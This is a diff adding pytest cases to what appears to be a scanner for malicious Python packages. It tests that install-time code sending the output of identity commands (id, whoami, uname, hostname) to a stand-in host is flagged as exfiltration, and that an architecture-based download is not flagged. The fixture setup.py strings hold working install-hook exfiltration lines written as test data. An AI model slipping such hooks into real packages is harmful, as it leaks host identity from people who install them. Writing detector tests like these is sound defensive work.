@@ -2914,3 +2914,36 @@ def test_deciphered_text_that_a_replacement_keeps_or_puts_in_still_is(sink):
     result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/hidden.py": source})
     assert severities(result, "intent.decode-execute") & {"high", "critical"}
     assert result.verdict in FLAGGED
+
+
+# -- what an identity command prints is the host's identity --------------------------------------
+
+
+@pytest.mark.parametrize(
+    "read",
+    [
+        'os.popen("id").read()',
+        'subprocess.check_output(["whoami"], text=True)',
+        'subprocess.getoutput("uname -a")',
+        'subprocess.run("hostname", capture_output=True, text=True).stdout',
+    ],
+)
+def test_an_identity_command_s_answer_sent_at_install_is_exfiltration(read):
+    source = (
+        "import os\nimport subprocess\n\nimport requests\nfrom setuptools import setup\n\n"
+        f'requests.get("https://collector-cdn.net/?who=" + {read})\nsetup(name="demo")\n'
+    )
+    result = scan({"setup.py": source})
+    assert severities(result, "intent.exfiltration") & {"high", "critical"}
+    assert result.verdict == "malicious"
+
+
+def test_a_machine_type_in_a_download_address_is_not_identity():
+    source = (
+        "import subprocess\nimport urllib.request\nfrom setuptools import setup\n\n"
+        'arch = subprocess.check_output(["uname", "-m"], text=True).strip()\n'
+        'urllib.request.urlretrieve(f"https://releases.example-tools.org/tool-{arch}.tar.gz", '
+        '"tool.tar.gz")\nsetup(name="demo")\n'
+    )
+    result = scan({"setup.py": source})
+    assert not found(result, "intent.exfiltration")
